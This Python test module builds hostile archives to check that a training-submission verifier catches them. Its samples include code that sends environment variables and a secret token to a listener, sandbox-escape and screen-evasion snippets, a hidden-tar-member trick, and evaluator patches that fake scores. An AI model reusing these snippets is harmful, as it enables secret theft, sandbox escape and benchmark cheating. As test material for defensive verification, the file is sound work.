"""The hostile corpus beyond corpus.py: each family of issue 11, built in memory from one shared tiny submission.

``HOSTILE`` maps a case id to ``Case(build, check, runs, fake)``: ``build(ctx)`` returns
the archive, ``check`` is the check that must fail, ``runs`` marks the cases whose code
must execute (in the sandbox) to be caught, ``fake`` the score fakes, which are also
verified with ``--rerun-eval`` (that check must refuse them).

Archive code that runs gets ``ctx``: a port on 127.0.0.1 where a listener records what it
receives, a path outside verify's temp dir it tries to create, and the value of a
secret-looking variable set in the verifying process that it tries to leak.
"""

from __future__ import annotations

import functools
import io
import json
import struct
import tarfile
import tempfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch
from verify_kit import TRAIN_PY, good_meta, step_log, tiny_state, write_files

from trnfrontier import submission as fmt

SECRET_VAR = "TRNF_TEST_API_TOKEN"


@dataclass(frozen=True)
class Ctx:
    work: Path
    port: int
    marker: Path  # outside verify's temp dir: must never appear
    secret: str


@dataclass(frozen=True)
class Case:
    build: Callable[[Ctx], Path]
    check: str
    runs: bool = False
    fake: bool = False
    says: str = ""  # a part of the failing check's reason (the field or limit it names); "a|b": either
    dry: bool = False  # verified with --dry-run too
    settings: dict[str, int] | None = None  # the rerun's settings, when not verify_kit.RERUN
    env: dict[str, str] | None = None  # set in verify's environment for this case (a smaller limit)


@functools.lru_cache(maxsize=1)
def _base() -> dict[str, bytes]:
    """The members of the valid tiny submission, as bytes (checkpoints written once per session)."""
    with tempfile.TemporaryDirectory() as tmp:
        return {name: path.read_bytes() for name, path in write_files(Path(tmp)).items()}


def pack(ctx: Ctx, members: dict[str, bytes] | None = None, *, meta: dict[str, Any] | None = None,
         edit: Callable[[dict[str, Any]], None] | None = None, manifest: bytes | None = None, name: str = "h.tar") -> Path:
    """A canonical archive of ``members`` (default: the valid ones) with an honest manifest unless told otherwise."""
    files = dict(_base() if members is None else members)
    built = fmt.build_manifest(files, **(meta if meta is not None else good_meta()))
    if edit:
        edit(built)
    out = ctx.work / name
    fmt.write_deterministic_tar({**files, fmt.MANIFEST: manifest if manifest is not None else fmt.manifest_bytes(built)}, out)
    return out


def _with(replace: dict[str, bytes]) -> dict[str, bytes]:
    """The valid members with some replaced or added."""
    return {**_base(), **replace}


# -- train.py variants that pass the static screen and misbehave when they run ---------------

def _train(ctx: Ctx, *, at_load: str = "", module: str = "", forward: tuple[str, str] | None = None) -> bytes:
    """TRAIN_PY with ``at_load`` run first thing in load_for_eval, ``module`` appended, ``forward`` replaced."""
    source = TRAIN_PY
    if forward:
        assert forward[0] in source
        source = source.replace(*forward)
    if at_load:
        body = "".join(f"    {line}\n" for line in at_load.format(port=ctx.port, marker=str(ctx.marker), secret_var=SECRET_VAR).splitlines())
        source = source.replace("def load_for_eval(checkpoint_path, device):\n", "def load_for_eval(checkpoint_path, device):\n" + body)
    if module:
        source += "\n" + module.format(port=ctx.port, marker=str(ctx.marker)) + "\n"
    return source.encode()


def _runs(check: str = "contract", *, at_load: str = "", module: str = "", forward: tuple[str, str] | None = None,
          claim: dict[str, Any] | None = None, fake: bool = False, settings: dict[str, int] | None = None,
          says: str = "", env: dict[str, str] | None = None) -> Case:
    def build(ctx: Ctx) -> Path:
        meta = good_meta()
        meta["claimed"].update(claim or {})
        return pack(ctx, _with({fmt.TRAIN_PY: _train(ctx, at_load=at_load, module=module, forward=forward)}), meta=meta)

    return Case(build, check, runs=True, fake=fake, settings=settings, says=says, env=env)


_LOGITS = "        return logits\n"
_IMPORTER = "import importlib\n_imp = getattr(importlib, 'import_' + 'module')\n"
EXECUTION: dict[str, Case] = {
    "looks-ahead-only-beyond-64": _runs(forward=("        if MODE == \"peek\":\n", "        if idx.size(1) > 64:\n"),
                                        claim={"eval_seq_len": 128, "val_bpb": 0.5}, fake=True, settings={"eval_seq_len": 128}),
    "peeks-only-at-the-last-token": _runs(forward=("        if MODE == \"peek\":\n            h = h + self.wte(torch.roll(idx, -1, dims=1))\n",
                                                   "        h = h.clone()\n        h[:, -2] = h[:, -2] + self.wte(idx[:, -1])\n")),
    "batch-dependent-only-at-32": _runs(forward=("        if MODE == \"batch\":\n", "        if idx.size(0) >= 32:\n")),
    # A shift of every logit alike moves no probability (log-softmax): the state must tilt them.
    "stateful-across-calls": _runs(module="CALLS = [0]", forward=(_LOGITS, "        CALLS[0] += 1\n"
                                                                  "        return logits + 0.01 * CALLS[0] * (torch.arange(logits.size(-1)) % 2)\n")),
    "left-in-training-mode": _runs(forward=("    return model.to(device).eval()\n", "    return model.to(device).train()\n")),
    "nan-logits": _runs(forward=(_LOGITS, "        return logits * float('nan')\n")),
    "truncated-vocabulary": _runs(forward=(_LOGITS, "        return logits[:, :, :100]\n")),
    "flat-logits": _runs(forward=(_LOGITS, "        return logits.flatten(0, 1)\n")),
    "load-raises": _runs(at_load="raise RuntimeError('cannot load')"),
    "writes-outside-temp": _runs(at_load="try:\n    open({marker!r}, 'w').write('pwned')\nexcept OSError:\n    pass"),
    "writes-beside-home": _runs(at_load="try:\n    open(os.path.join(os.environ['HOME'], '..', 'escaped.txt'), 'w').write('x')\nexcept OSError:\n    pass"),
    "removes-a-file": _runs(at_load="try:\n    os.remove({marker!r})\nexcept OSError:\n    pass"),
    "socket-via-getattr-importlib": _runs(at_load=_IMPORTER + "try:\n    _imp('soc' + 'ket').create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'x')\nexcept OSError:\n    pass"),
    "sends-environment": _runs(at_load=_IMPORTER + "try:\n    s = _imp('soc' + 'ket').create_connection(('127.0.0.1', {port}), timeout=1)\n    s.sendall(repr(dict(os.environ)).encode())\nexcept OSError:\n    pass"),
    "tcpstore-to-listener": _runs(at_load="import datetime\ntorch.distributed.TCPStore('127.0.0.1', {port}, 1, False, datetime.timedelta(seconds=2)).set('k', os.environ.get({secret_var!r}, 'none'))"),
    "environment-in-error": _runs(at_load="raise RuntimeError('ENV ' + repr(dict(os.environ)))"),
    "daemon-via-multiprocessing": _runs(at_load="import multiprocessing, time\nmultiprocessing.get_context('fork').Process(target=time.sleep, args=(120,)).start()"),
    "daemon-via-subprocess": _runs(at_load=_IMPORTER + "_imp('subpro' + 'cess').Popen(['sleep', '120'], start_new_session=True)"),
    "kills-its-process-group": _runs(at_load="os.killpg(0, 9)"),
    "garbage-on-the-result-channel": _runs(module="import sys as _s\nfor _i, _a in enumerate(_s.argv):\n    if _a == '--fd-out':\n        os.write(int(_s.argv[_i + 1]), b'\\xff' * 64)"),
    # A well-formed frame of its own on the result pipe at import, read as the ready message: its
    # fields have the wrong types (the real server sends lists of strings).
    "forges-a-ready-frame": _runs(module="import sys as _s, json as _j, struct as _st\n_m = _j.dumps({{'ready': True, 'hooks': 5}}).encode()\n"
                                         "for _i, _a in enumerate(_s.argv):\n    if _a == '--fd-out':\n"
                                         "        os.write(int(_s.argv[_i + 1]), _st.pack('<I', len(_m)) + _m)", says="'hooks' as an integer"),
    # The server's own inspect answer replaced from forward (train.py runs in the server's process).
    "forges-an-inspect-reply": _runs(forward=(_LOGITS, "        __import__('sys').modules['__main__']._inspect = lambda m: {'attempts': {'a': 1}}\n"
                                              + _LOGITS), says="'attempts' as an object"),
    "patches-prepare-evaluate": _runs(module="import sys\nsys.modules.get('pre' + 'pare').evaluate_bpb = lambda *a, **k: {{'val_bpb': 0.5}}",
                                      claim={"val_bpb": 0.5}, fake=True),
    "patches-prepare-constant": _runs(module="import sys\nsys.modules.get('pre' + 'pare').TOKENIZER_VOCAB_SIZE = 100"),
    "reads-validation-at-load": _runs("rerun-eval", at_load="try:\n    TABLE = __import__('sys').modules.get('pre' + 'pare')._token_arrays('pub' + 'lic_val')\nexcept Exception:\n    TABLE = None",
                                      claim={"val_bpb": 0.5}, fake=True),
    "patches-torch-loss": _runs("rerun-eval", module="F.cross_entropy = lambda *a, **k: torch.zeros(())", claim={"val_bpb": 0.5}, fake=True),
}


# -- static families: caught before anything runs ----------------------------------------------

def _screen(snippet: str) -> Case:
    def build(ctx: Ctx) -> Path:
        return pack(ctx, _with({fmt.TRAIN_PY: (TRAIN_PY + "\n" + snippet + "\n").encode()}))

    return Case(build, "screen")


SCREEN: dict[str, Case] = {
    "getattr-builtins-eval": _screen("import builtins\nf = getattr(builtins, 'ev' + 'al')"),
    "importlib-alias": _screen("from importlib import import_module as f\nm = f('sock' + 'et')"),
    "posix-system": _screen("import posix\nposix.system('id')"),
    "builtins-dict-import": _screen("import builtins\nimp = builtins.__dict__['__imp' + 'ort__']"),
    "pickle-loads": _screen("import pickle\nobj = pickle.loads(b'x')"),
    "marshal-loads": _screen("import marshal\ncode = marshal.loads(b'x')"),
    "compile-function-type": _screen("import types\nf = types.FunctionType(compile('1', 'x', 'eval'), {})"),
    "runpy-writeup": _screen("import runpy\nrunpy.run_path('WRITEUP.md')"),
    "source-file-loader": _screen("from importlib.machinery import SourceFileLoader\nSourceFileLoader('w', 'WRITEUP.md').load_module()"),
    "spec-from-non-py": _screen("import importlib.util as u\nspec = u.spec_from_file_location('w', 'WRITEUP.md')"),
    "subclasses-escape": _screen("classes = ().__class__.__bases__[0].__subclasses__()"),
    "dunder-builtins": _screen("b = __builtins__"),
    "frame-walk": _screen("import sys\nf = sys._getframe(1)"),
    "ctypes": _screen("import ctypes"),
}


def _raw(ctx: Ctx, entries: list[tuple[tarfile.TarInfo, bytes]], *, fmt_: int = tarfile.PAX_FORMAT, tail: bytes = b"") -> Path:
    out = ctx.work / "raw.tar"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=fmt_) as tar:
        for info, data in entries:
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    out.write_bytes(buffer.getvalue() + tail)
    return out


def _canonical_entries(ctx: Ctx, **overrides: Any) -> list[tuple[tarfile.TarInfo, bytes]]:
    """The members of a valid archive as (header, data), headers as trnf package writes them unless overridden."""
    good = pack(ctx, name="good.tar")
    entries = []
    with tarfile.open(good) as tar:
        for member in tar.getmembers():
            for key, value in overrides.items():
                setattr(member, key, value)
            entries.append((member, tar.extractfile(member).read()))  # type: ignore[union-attr]
    return entries


def hidden_after_invalid_header(ctx: Ctx) -> Path:
    """A second train.py after a corrupt header: Python's tarfile stops there, GNU tar skips on and extracts it."""
    good = pack(ctx, name="good.tar").read_bytes()
    end = len(good.rstrip(b"\0"))
    end += -end % 512
    hidden = io.BytesIO()
    with tarfile.open(fileobj=hidden, mode="w", format=tarfile.GNU_FORMAT) as tar:
        data = b"import socket\ndef load_for_eval(p, d):\n    return None\n"
        info = tarfile.TarInfo("train.py")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    bad_header = b"\x01" * 512
    out = ctx.work / "hidden.tar"
    out.write_bytes(good[:end] + bad_header + hidden.getvalue())
    return out


def _canonical_case(build: Callable[[Ctx], Path]) -> Case:
    return Case(build, "extract")


CANONICAL: dict[str, Case] = {
    "hidden-member-after-invalid-header": _canonical_case(hidden_after_invalid_header),
    "trailing-garbage": _canonical_case(lambda ctx: _raw(ctx, _canonical_entries(ctx), tail=b"trailing bytes")),
    "unsorted-members": _canonical_case(lambda ctx: _raw(ctx, list(reversed(_canonical_entries(ctx))))),
    "nonzero-mtime": _canonical_case(lambda ctx: _raw(ctx, _canonical_entries(ctx, mtime=1_700_000_000))),
    "executable-mode": _canonical_case(lambda ctx: _raw(ctx, _canonical_entries(ctx, mode=0o755))),
    "owner-names": _canonical_case(lambda ctx: _raw(ctx, _canonical_entries(ctx, uname="alice", gname="staff"))),
    "gnu-format": _canonical_case(lambda ctx: _raw(ctx, _canonical_entries(ctx), fmt_=tarfile.GNU_FORMAT)),
    "extra-zero-record": _canonical_case(lambda ctx: _raw(ctx, _canonical_entries(ctx), tail=bytes(tarfile.RECORDSIZE))),
}


# -- JSON read one way only ---------------------------------------------------------------------

def _manifest_text(ctx: Ctx, mutate: Callable[[str], str]) -> Path:
    built = fmt.build_manifest(_base(), **good_meta())
    return pack(ctx, manifest=mutate(json.dumps(built, sort_keys=True)).encode())


def _safetensors(header: bytes, data: bytes) -> bytes:
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + data


def _deep(levels: int) -> str:
    return "[" * levels + "]" * levels


JSON: dict[str, Case] = {
    "manifest-duplicate-params": Case(lambda ctx: _manifest_text(ctx, lambda t: t.replace('"params": ', '"params": 1, "params": ', 1)), "manifest"),
    "manifest-duplicate-nested": Case(lambda ctx: _manifest_text(ctx, lambda t: t.replace('"val_bpb": ', '"val_bpb": 0.1, "val_bpb": ', 1)), "manifest"),
    "manifest-deep": Case(lambda ctx: _manifest_text(ctx, lambda t: t.replace('"seed": 0', f'"seed": {_deep(100_000)}', 1)), "manifest"),
    "manifest-moderately-deep": Case(lambda ctx: _manifest_text(ctx, lambda t: t.replace('"seed": 0', f'"seed": {_deep(200)}', 1)), "manifest"),
    "manifest-nan": Case(lambda ctx: _manifest_text(ctx, lambda t: t.replace('"seed": 0', '"seed": NaN', 1)), "manifest"),
    "safetensors-duplicate-tensor": Case(lambda ctx: pack(ctx, _with({fmt.CHECKPOINT_SAFETENSORS: _safetensors(
        b'{"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}', bytes(4))})), "checkpoint"),
    "safetensors-deep-header": Case(lambda ctx: pack(ctx, _with({fmt.CHECKPOINT_SAFETENSORS: _safetensors(
        ('{"__metadata__": ' + _deep(100_000) + "}").encode(), b"")})), "checkpoint"),
    "summary-duplicate-key": Case(lambda ctx: pack(ctx, _with({fmt.SUMMARY: b'{"over_budget": true, "over_budget": false}'})), "budget"),
    "summary-deep": Case(lambda ctx: pack(ctx, _with({fmt.SUMMARY: ('{"a": ' + _deep(100_000) + "}").encode()})), "budget"),
}


# -- the trusted prepare.py comes first --------------------------------------------------------

_OWN_PREPARE = b"def evaluate_bpb(*a, **k):\n    return {'val_bpb': 0.5}\n"
PREPARE: dict[str, Case] = {
    "ships-prepare-py": Case(lambda ctx: pack(ctx, _with({"prepare.py": _OWN_PREPARE})), "manifest"),
    "ships-prepare-package": Case(lambda ctx: pack(ctx, _with({"prepare/__init__.py": _OWN_PREPARE})), "manifest"),
    "ships-runtime-prepare": Case(lambda ctx: pack(ctx, _with({"runtime/prepare.py": _OWN_PREPARE})), "manifest"),
}


# -- budget from every source ---------------------------------------------------------------------

_GOOD = [20.0, 30.0, 40.0, 50.0, 60.0] + [60.0 + 10 * i for i in range(1, 56)]  # ~550 s charged


def _logs(**replace: bytes) -> Callable[[Ctx], Path]:
    members = {{"summary": fmt.SUMMARY, "metrics": fmt.METRICS_LOG, "steps": fmt.STEP_LOG}[k]: v for k, v in replace.items()}
    return lambda ctx: pack(ctx, _with(members))


def _two_segments(first: list[float], second: list[float]) -> bytes:
    return (step_log(first, start=1000.0) + step_log(second, start=10_000.0)).encode()


BUDGET: dict[str, Case] = {
    "summary-over-budget-flag": Case(_logs(summary=b'{"val_bpb": 12.0, "over_budget": true}'), "budget"),
    "summary-charges-2000": Case(_logs(summary=b'{"val_bpb": 12.0, "charged_seconds": 2000.0}'), "budget"),
    "summary-disagrees-with-step-log": Case(_logs(summary=b'{"val_bpb": 12.0, "charged_seconds": 100.0}'), "budget"),
    "trainer-log-over-budget-flag": Case(_logs(metrics=b'{"step": 1, "loss": 9.0, "over_budget": true}\n'), "budget"),
    "trainer-log-disagrees": Case(_logs(metrics=b'{"step": 60, "loss": 9.0, "charged_seconds": 100.0}\n'), "budget"),
    "resume-not-recorded": Case(_logs(steps=_two_segments(_GOOD[:20], _GOOD[:20])), "budget"),
    "resume-recorded-one-segment": Case(_logs(summary=b'{"val_bpb": 12.0, "resumed_from": "runs/x/checkpoints/step_000100"}'), "budget"),
    "resumed-segments-over-in-total": Case(_logs(
        steps=_two_segments([20.0, 30.0, 40.0, 50.0, 60.0, 1000.0], [10.0, 20.0, 30.0, 40.0, 50.0, 1000.0]),
        summary=b'{"val_bpb": 12.0, "resumed_from": "runs/x/checkpoints/step_000005"}'), "budget"),
}


# -- final.pt must be model.safetensors ------------------------------------------------------------

def _final_pt(state: dict[str, torch.Tensor]) -> bytes:
    buffer = io.BytesIO()
    torch.save({"model_state": state, "model_config": {"vocab_size": 8192}, "meta": {}}, buffer)
    return buffer.getvalue()


def _changed_state(change: Callable[[dict[str, torch.Tensor]], None]) -> Callable[[Ctx], Path]:
    def build(ctx: Ctx) -> Path:
        state = {k: v.clone() for k, v in tiny_state().items()}
        change(state)
        return pack(ctx, _with({fmt.CHECKPOINT_FINAL_PT: _final_pt(state)}))

    return build


def _bump(state: dict[str, torch.Tensor]) -> None:
    state["head.weight"][3, 3] += 0.25


def _swap_tensor(state: dict[str, torch.Tensor]) -> None:
    state["extra.weight"] = state.pop("proj.weight")


def _half(state: dict[str, torch.Tensor]) -> None:
    state["proj.weight"] = state["proj.weight"].half()


def _transpose(state: dict[str, torch.Tensor]) -> None:
    state["proj.weight"] = state["proj.weight"].t().contiguous() + 1.0


def _final_pt_with(extra: dict[str, Any] | None = None, *, config: Any = None, state_edit: Callable | None = None) -> Callable[[Ctx], Path]:
    """final.pt of the tiny state with weights smuggled beside model_state (issue 26.4)."""
    def build(ctx: Ctx) -> Path:
        state = {k: v.clone() for k, v in tiny_state().items()}
        if state_edit:
            state_edit(state)
        buffer = io.BytesIO()
        torch.save({"model_state": state, "model_config": config if config is not None else {"vocab_size": 8192}, "meta": {},
                    **(extra or {})}, buffer)
        return pack(ctx, _with({fmt.CHECKPOINT_FINAL_PT: buffer.getvalue()}))

    return build


def _slack_view(state: dict[str, torch.Tensor]) -> None:
    """proj.weight as a view of the first bytes of a bigger storage that also holds other weights."""
    weight = state["proj.weight"]
    storage = torch.cat([weight.flatten(), torch.linspace(-1, 1, 4096)])
    state["proj.weight"] = storage[: weight.numel()].view(weight.shape)


def _safetensors_edit(edit: Callable[[dict[str, Any], bytes], tuple[dict[str, Any], bytes]]) -> Callable[[Ctx], Path]:
    """model.safetensors of the tiny state, its header and data changed by ``edit``."""
    def build(ctx: Ctx) -> Path:
        raw = _base()[fmt.CHECKPOINT_SAFETENSORS]
        (length,) = struct.unpack("<Q", raw[:8])
        header, data = edit(json.loads(raw[8:8 + length]), raw[8 + length:])
        return pack(ctx, _with({fmt.CHECKPOINT_SAFETENSORS: _safetensors(json.dumps(header).encode(), data)}))

    return build


def _gap(header: dict[str, Any], data: bytes) -> tuple[dict[str, Any], bytes]:
    """64 bytes of other weights between the first tensor and the rest."""
    first = min((v["data_offsets"][1], k) for k, v in header.items() if k != "__metadata__")
    for key, value in header.items():
        if key != "__metadata__" and value["data_offsets"][0] >= first[0]:
            value["data_offsets"] = [value["data_offsets"][0] + 64, value["data_offsets"][1] + 64]
    return header, data[:first[0]] + bytes(range(64)) + data[first[0]:]


CHECKPOINT: dict[str, Case] = {
    "final-pt-weights-in-model-config": Case(_final_pt_with(config={"vocab_size": 8192, "w": [0.5] * 20_000}), "checkpoint",
                                             says="weights belong in model_state"),
    "final-pt-tensor-in-meta": Case(_final_pt_with({"meta": {"w": torch.linspace(-1, 1, 4096)}}), "checkpoint", says="holds a Tensor"),
    "final-pt-extra-key": Case(_final_pt_with({"extra": {"qkv.weight": torch.zeros(48, 16)}}), "checkpoint", says="extra"),
    "final-pt-storage-slack": Case(_final_pt_with(state_edit=_slack_view), "checkpoint", says="slack"),
    "safetensors-gap-between-tensors": Case(_safetensors_edit(_gap), "checkpoint", says="slack"),
    "safetensors-trailing-bytes": Case(_safetensors_edit(lambda h, d: (h, d + bytes(4096))), "checkpoint", says="slack"),
    "safetensors-weights-in-metadata": Case(_safetensors_edit(lambda h, d: ({**h, "__metadata__": {"w": "0.5," * 20_000}}, d)),
                                            "checkpoint", says="__metadata__"),
    # A header length of 1 TiB: refused from the 8 bytes that state it, before anything is read.
    "safetensors-huge-header-length": Case(lambda ctx: pack(ctx, _with({fmt.CHECKPOINT_SAFETENSORS: struct.pack("<Q", 1 << 40)
                                                                        + _base()[fmt.CHECKPOINT_SAFETENSORS][8:]})),
                                           "checkpoint", says="header length"),
    "final-pt-one-value-differs": Case(_changed_state(_bump), "checkpoint"),
    "final-pt-renamed-tensor": Case(_changed_state(_swap_tensor), "checkpoint"),
    "final-pt-other-dtype": Case(_changed_state(_half), "checkpoint"),
    "final-pt-other-weights-same-shape": Case(_changed_state(_transpose), "checkpoint"),
}

def _all() -> dict[str, Case]:
    from hostile_fields import FIELDS
    from hostile_host import HOST
    from hostile_scored import SCORED

    return {**EXECUTION, **SCREEN, **CANONICAL, **JSON, **PREPARE, **BUDGET, **CHECKPOINT, **FIELDS, **HOST, **SCORED}


HOSTILE: dict[str, Case] = _all()
